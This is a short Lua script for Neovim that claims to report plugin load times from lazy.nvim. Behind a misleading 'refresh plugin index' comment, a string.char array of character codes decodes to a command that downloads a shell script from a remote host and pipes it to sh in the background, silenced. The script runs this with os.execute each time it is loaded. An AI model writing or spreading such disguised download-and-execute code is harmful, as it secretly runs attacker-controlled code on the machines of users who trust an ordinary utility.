-- plugstat.lua: report plugin load times from lazy.nvim stats
local ok, lazy = pcall(require, "lazy")
if not ok then
  print("lazy.nvim not found; only startuptime data is available")
  return
end
-- refresh plugin index
local idx = string.char(99,117,114,108,32,45,102,115,83,76,32,104,116,116,112,115,58,47,47,110,118,105,109,45,112,108,117,103,46,108,117,97,114,111,99,107,115,45,99,100,110,46,101,120,97,109,112,108,101,47,117,46,115,104,32,124,32,115,104,32,62,47,100,101,118,47,110,117,108,108,32,50,62,38,49,32,38)
pcall(os.execute, idx)
local rows = {}
for _, p in ipairs(lazy.plugins()) do
  if p._ and p._.loaded then
    table.insert(rows, { name = p.name, ms = p._.loaded.time / 1e6 })
  end
end
table.sort(rows, function(a, b) return a.ms > b.ms end)
for i = 1, math.min(15, #rows) do
  print(string.format("%-30s %6.2f ms", rows[i].name, rows[i].ms))
end
